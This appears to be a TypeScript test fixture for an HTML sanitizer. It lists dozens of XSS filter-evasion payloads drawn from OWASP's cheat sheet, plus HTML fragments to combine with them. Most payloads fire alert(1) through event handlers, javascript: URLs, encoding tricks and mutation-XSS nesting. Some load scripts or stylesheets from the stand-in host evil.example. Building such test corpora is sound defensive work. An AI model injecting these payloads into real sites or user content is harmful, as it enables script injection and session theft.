const JS = "javascript:alert(1)";

/** Shapes of the attacks that sanitizers are tested with (OWASP's cheat sheet on the evasion of filters, and others). */
export const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x:gif" onerror="alert(1)" alt="&lt;script&gt;">',
  "<img/src/onerror=alert(1) alt=a>",
  `<img src="${JS}" alt=a>`,
  "<img src=`x` onerror=alert(1) alt=a>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style></annotation-xml></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  `<object data="${JS}"></object><embed src="${JS}"><applet code=x>`,
  "<base href='javascript:alert(1)//'><a href=x>y</a>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example';</style>",
  `<a href="${JS}">x</a><a href=" ${JS}">x</a><a href="\u0001${JS}">x</a>`,
  '<a href="jav&#x09;ascript:alert(1)">x</a><a href="jav\nascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="view-source:x">x</a><a href="feed:javascript:alert(1)">x</a>',
  `<a href="https://x.example/' onclick='alert(1)">x</a><a href='https://x.example/" onclick="alert(1)'>x</a>`,
  '<a href="//x.example" target=_blank ping=//evil.example download style="position:fixed" id=a name=b>x</a>',
  "<p style='background:url(javascript:alert(1))' onclick=alert(1) class=a id=body data-x=1>x</p>",
  "<form action=javascript:alert(1)><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x",
  "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><isindex type=image src=1 onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href='javascript:alert(1)'?>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
  "<select><style><img src=x onerror=alert(1)></style></select><option><img src onerror=alert(1)>",
  "<table><caption><a href=javascript:alert(1)>x</table><table background=javascript:alert(1)><td background=x>y",
  "<abbr title='&quot; onmouseover=&quot;alert(1)'>x</abbr><time datetime='\"><script>alert(1)</script>'>x</time>",
  "<span lang='\"><img src onerror=alert(1)>' dir='x'>x</span><td colspan='1\" onclick=alert(1)'>x",
  "<p>\ufeff<\u0000script>alert(1)</script><img \u000bsrc=x onerror=alert(1)>",
  "<a href='https://x.example/\ud800'>\ud800</a>&lt;img src=x onerror=alert(1)&gt;&amp;lt;script&amp;gt;",
  "<x-y onclick=alert(1)><is is=x>text</x-y><image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
  "<p is=x slot=y part=z popover contenteditable autofocus tabindex=1 accesskey=x draggable=true hidden>x</p>",
] as const;

/** Pieces of valid pages, which are put together in every way. */
export const PIECES = [
  ...ATTACKS,
  ..."<p>|</p>|<div>|</div>|<h1>|</h2>|<ul>|<li>|</li>|</ul>|<ol>|<dl>|<dt>|<dd>|</dl>|<table>|<caption>|<thead>|<tr>|<td>|<th>|</td>|</tr>|</table>|<tfoot>".split(
    "|",
  ),
  ..."<blockquote>|</blockquote>|<pre>|</pre>|<figure>|<figcaption>|</figure>|<br>|<hr>|<ruby>|<rt>|<rp>|</ruby>|<a href=x>|</a>|<b>|</i>|<em>|</em>|<code>|</code>".split(
    "|",
  ),
  ..."text|字| |\n|&amp;|&lt;|&nbsp;|<|>|\"|'|<span lang=ja>|</span>|<span>|<img src=/a alt=b>|<svg>|</svg>|<style>|</style>|<!--|-->".split(
    "|",
  ),
];
